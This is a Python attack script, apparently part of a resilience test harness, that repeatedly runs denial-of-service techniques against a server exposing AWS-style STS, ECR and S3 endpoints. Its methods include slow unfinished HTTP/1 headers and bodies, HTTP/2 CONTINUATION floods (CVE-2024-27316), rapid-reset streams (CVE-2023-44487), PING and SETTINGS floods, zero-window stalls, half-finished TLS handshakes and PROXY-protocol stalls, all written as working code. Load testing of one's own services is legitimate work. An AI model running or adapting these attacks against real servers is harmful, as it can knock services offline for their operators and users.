"""A process that is one kind of attacker: `hostile_load.py NAME HOST:PORT SOURCE KEY_ID ROUNDS SECONDS [HELD]`.

It does as many rounds as are asked for, and goes on until so many seconds have passed. What it holds open it lets go of
when it holds too much. Its last line says what it did. It knows the id of a key at most, and no secret.
"""

import collections
import contextlib
import resource
import ssl
import struct
import sys
import time
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from harness.raw_http import RawConnection, head
from harness.raw_http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    RESET,
    SETTINGS,
    Http2Connection,
    encode,
    literal,
)

MIB = 1024 * 1024
HELD = 2000
FORM = "application/x-www-form-urlencoded"
JSON = "application/x-amz-json-1.1"
FRAME = 16_000
LONG = [(f"x-{number}", "a" * 7000) for number in range(7)]


class Attacker:
    """`host` is attacked from `source`; `key_id` is a key's of the server."""

    def __init__(self, host, source, key_id, held=HELD):
        self.host, self.source, self.key_id = host, source, key_id
        self.held = collections.deque()
        self.max_held = held
        self.requests = 0
        self.busy = b""

    def hold(self, connection):
        """Keeps it open, and closes the oldest where there are too many."""
        self.held.append(connection)
        if len(self.held) > self.max_held:
            self.held.popleft().close()

    def http_1(self, data):
        connection = RawConnection(self.host, timeout=5, source=self.source)
        connection.send(data)
        self.requests += 1
        return connection

    def http_2(self, **options):
        return Http2Connection(self.host, timeout=5, source=self.source, **options)

    # --- Bodies of whom nothing is proven -------------------------------------------------------------------------

    def forms(self):
        """Forms of a mebibyte without any key, which do not end."""
        body = b"Action=AssumeRoleWithWebIdentity&Version=2011-06-15&WebIdentityToken=" + b"x" * MIB
        announced = [("Host", "x"), ("Content-Type", FORM), ("Content-Length", len(body))]
        self.hold(self.http_1(head("POST", "/", announced) + body[: 60 * 1024]))
        chunked = [("Host", "x"), ("Content-Type", FORM), ("Transfer-Encoding", "chunked")]
        self.hold(self.http_1(head("POST", "/", chunked) + b"f000\r\n" + body[:0xF000]))

    def policies(self):
        """Session policies, each like no other, of many small patterns, with a token that is none."""
        actions = ",".join(['"a:?"'] * 318)
        connection = RawConnection(self.host, timeout=30, source=self.source)
        for _ in range(100):
            self.requests += 1
            statement = f'{{"Sid":"s{self.requests}","Effect":"Allow","Resource":"*","Action":[{actions}]}}'
            form = {
                "Action": "AssumeRoleWithWebIdentity",
                "Version": "2011-06-15",
                "RoleArn": "arn:aws:iam::123456789012:role/any",
                "RoleSessionName": "session",
                "WebIdentityToken": "abcd",
                "Policy": f'{{"Version":"2012-10-17","Statement":[{statement}]}}',
            }
            body = urllib.parse.urlencode(form).encode()
            fields = [("Host", "x"), ("Content-Type", FORM), ("Content-Length", len(body))]
            connection.exchange(head("POST", "/", fields) + body)
        connection.close()

    def upload(self, key_id, is_whole):
        body = b'{"repositoryName":"app","layerPartBlob":"' + b"A" * 20 * MIB + b'"}'
        signed = (
            f"AWS4-HMAC-SHA256 Credential={key_id}/{time.strftime('%Y%m%d', time.gmtime())}/us-east-1/ecr/aws4_request"
        )
        fields = [
            ("Host", self.host),
            ("Content-Type", JSON),
            ("X-Amz-Target", "AmazonEC2ContainerRegistry_V20150921.UploadLayerPart"),
            ("X-Amz-Date", time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())),
            (
                "Authorization",
                f"{signed}, SignedHeaders=content-type;host;x-amz-date;x-amz-target, Signature={'0' * 64}",
            ),
            ("Content-Length", len(body)),
        ]
        connection = self.http_1(head("POST", "/", fields))
        connection.send(body if is_whole else body[:-1])
        return connection

    def false_signatures(self):
        """Parts of layers with a key that there is and a signature that is none; every other one does not end."""
        connection = self.upload(self.key_id, is_whole=True)
        with contextlib.suppress(Exception):
            connection.answer("POST")
        connection.close()
        self.hold(self.upload(self.key_id, is_whole=False))

    def unknown_keys(self):
        self.hold(self.upload("AKIA" + "Z" * 16, is_whole=False))

    def chunked_aws(self):
        """A body in the chunks that S3's clients sign one by one, and which is not said to be one."""
        fields = [
            ("Host", self.host),
            ("Content-Type", JSON),
            ("Content-Encoding", "aws-chunked"),
            ("X-Amz-Content-Sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"),
            ("X-Amz-Decoded-Content-Length", MIB),
            ("Transfer-Encoding", "chunked"),
        ]
        piece = b"10000;chunk-signature=" + b"0" * 64 + b"\r\n" + b"x" * 65536 + b"\r\n"
        self.hold(self.http_1(head("POST", "/", fields) + b"%x\r\n" % len(piece) + piece + b"\r\n"))

    def trailers(self):
        """Bodies whose trailers do not end."""
        fields = [("Host", "x"), ("Content-Type", FORM), ("Transfer-Encoding", "chunked"), ("Trailer", "x-a")]
        lines = b"".join(b"x-%d: %s\r\n" % (number, b"a" * 7000) for number in range(8))
        self.hold(self.http_1(head("POST", "/", fields) + b"3\r\na=b\r\n0\r\n" + lines))
        connection = self.http_2()
        stream = connection.request("/", "POST", b"a=b", [("content-type", FORM)])
        self.block(connection, stream, fields_of(LONG), is_whole=False)
        self.hold(connection)

    # --- Heads ----------------------------------------------------------------------------------------------------

    def heads(self):
        """Heads of 56 KiB that do not end, on new connections and on such as have been answered; and whole ones that
        announce a body."""
        long = [("Host", "x"), *LONG]
        self.hold(self.http_1(head("GET", "/v2/", long)[:-2]))
        connection = self.http_1(head("GET", "/healthz", [("Host", "x")]))
        connection.send(head("GET", "/v2/", long)[:-2])
        self.hold(connection)
        self.hold(self.http_1(head("POST", "/", [*long, ("Content-Type", FORM), ("Content-Length", 100)])))

    def blocks(self):
        """Blocks of headers of HTTP/2 that do not end."""
        connection = self.http_2()
        self.block(connection, 1, fields_of(request_fields(self.host) + LONG), is_whole=False)
        self.hold(connection)

    def continuations(self):
        """CVE-2024-27316: frames of a block that go on and on, empty ones too."""
        connection = self.http_2()
        connection.frame(HEADERS, 0, 1, fields_of(request_fields(self.host)))
        connection.send(encode(CONTINUATION, 0, 1, b"") * 10_000)
        for _ in range(100):
            connection.frame(CONTINUATION, 0, 1, fields_of(LONG[:2]))
        self.requests += 1
        self.hold(connection)

    def block(self, connection, stream, block, is_whole=True):
        for first in range(0, len(block), FRAME):
            is_last = is_whole and first + FRAME >= len(block)
            kind = CONTINUATION if first else HEADERS
            connection.frame(kind, END_HEADERS if is_last else 0, stream, block[first : first + FRAME])
        self.requests += 1

    # --- Streams --------------------------------------------------------------------------------------------------

    def streams(self):
        """A hundred streams with long heads on each connection, which announce nothing and do not end."""
        connection = self.http_2()
        fields = [*request_fields(self.host, "POST"), ("content-length", "0"), ("content-type", FORM), *LONG]
        block = fields_of(fields)
        for stream in range(1, 200, 2):
            self.block(connection, stream, block)
        self.hold(connection)

    def bodies(self):
        """A hundred streams on each connection that fill their windows with bodies that do not end."""
        connection = self.http_2()
        for _ in range(100):
            stream = connection.request("/", "POST", b"a" * FRAME, [("content-type", FORM)])
            for _ in range(3):
                connection.frame(DATA, 0, stream, b"a" * FRAME)
            self.requests += 1
        self.hold(connection)

    def closed_windows(self):
        """Whoever asks for much and has no room for an answer."""
        connection = self.http_2(settings=[(INITIAL_WINDOW, 0)])
        for _ in range(120):
            connection.request("/v2/" + "a" * 200 + "/manifests/" + "b" * 4000)
            self.requests += 1
        self.hold(connection)

    def once_busy(self):
        """Connections that had as many streams at a time as they may, and want nothing from then on."""
        connection = self.http_2()
        if not self.busy:
            block = fields_of([*request_fields(self.host)[:3], (":path", "/healthz")])
            heads = (encode(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 256, 2))
            self.busy = b"".join(heads)
        connection.send(self.busy)
        self.requests += 128
        connection.read_until(HEADERS)
        self.hold(connection)

    def small_windows(self):
        """Whoever has room for one byte of each answer, of answers that are as long as what is asked for."""
        connection = self.http_2(settings=[(INITIAL_WINDOW, 1)])
        for _ in range(100):
            connection.request("/" + "a" * FRAME)
            self.requests += 1
        # An answer for which there is no room has no bytes to take.
        while (frame := connection.read()) and frame.kind != DATA:
            if frame.kind == HEADERS and frame.flags & END_STREAM:
                break
        self.hold(connection)

    def guesses(self):
        """Streams with passwords that are wrong, whose answers are held back."""
        connection = self.http_2()
        for _ in range(100):
            connection.request("/v2/" + "a" * 200 + "/tags/list", headers=[("authorization", "Basic QVdTOm5vdGhpbmc=")])
            self.requests += 1
        self.hold(connection)

    def slow_guesses(self):
        """The same over HTTP/1, from a client that is gone, and one that is not."""
        guess = head("GET", "/v2/", [("Host", "x"), ("Authorization", "Basic QVdTOm5vdGhpbmc="), *LONG[:4]])
        self.http_1(guess).close()
        self.hold(self.http_1(guess))

    def resets(self):
        """CVE-2023-44487: streams that are reset as soon as they are asked for."""
        connection = self.http_2()
        for _ in range(2000):
            connection.frame(RESET, 0, connection.request("/v2/"), CANCEL.to_bytes(4))
        self.requests += 2000
        self.hold(connection)

    def control_frames(self):
        """CVE-2019-9512 and -9515: frames that must be answered, by whoever does not read."""
        connection = self.http_2()
        settings = encode(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65_535))
        for _ in range(50):
            connection.send(encode(PING, 0, 0, bytes(8)) * 1000)
            connection.send(settings * 1000)
        self.requests += 1
        self.hold(connection)

    def unread_answers(self):
        """Thousands of requests in one connection of HTTP/1, none of whose answers is read."""
        connection = self.http_1(head("GET", "/v2/" + "a" * 1000, [("Host", "x")]) * 2000)
        self.hold(connection)

    # --- What comes before HTTP -----------------------------------------------------------------------------------

    def handshakes(self):
        """TLS handshakes that stay half done: a whole first message, and one that is said to be long."""
        hello = ssl.MemoryBIO()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with contextlib.suppress(ssl.SSLWantReadError):
            context.wrap_bio(ssl.MemoryBIO(), hello).do_handshake()
        self.hold(self.http_1(hello.read()))
        # A message of 65,000 bytes, of which 48 KiB come.
        record = b"\x16\x03\x01\x40\x00"
        self.hold(self.http_1(record + b"\x01\x00\xfd\xe8" + b"a" * 16380 + (record + b"a" * 16384) * 2))

    def proxy_heads(self):
        """Heads of the PROXY protocol that do not end."""
        self.hold(self.http_1(b"PROXY TCP4 192.0.2.7 10.0"))
        version_2 = b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + struct.pack(">H", 4096)
        self.hold(self.http_1(version_2 + b"\xc0\0\2\7\x0a\0\0\1\0\1\0\2\4" + struct.pack(">H", 4081) + bytes(4000)))


def request_fields(host, method="GET"):
    return [(":method", method), (":scheme", "http"), (":authority", host), (":path", "/")]


def fields_of(fields):
    return b"".join(literal(*field) for field in fields)


def main(name, host, source, key_id, rounds, seconds, held=HELD):
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker = Attacker(host, source, key_id, int(held))
    attack = getattr(attacker, name)
    until, done, failed = time.monotonic() + float(seconds), 0, 0
    while done < int(rounds) or time.monotonic() < until:
        try:
            attack()
        except OSError:
            failed += 1
        done += 1
    print(f"{name}: {done} rounds, {attacker.requests} requests, {failed} cut off, {len(attacker.held)} held")


if __name__ == "__main__":
    main(*sys.argv[1:])
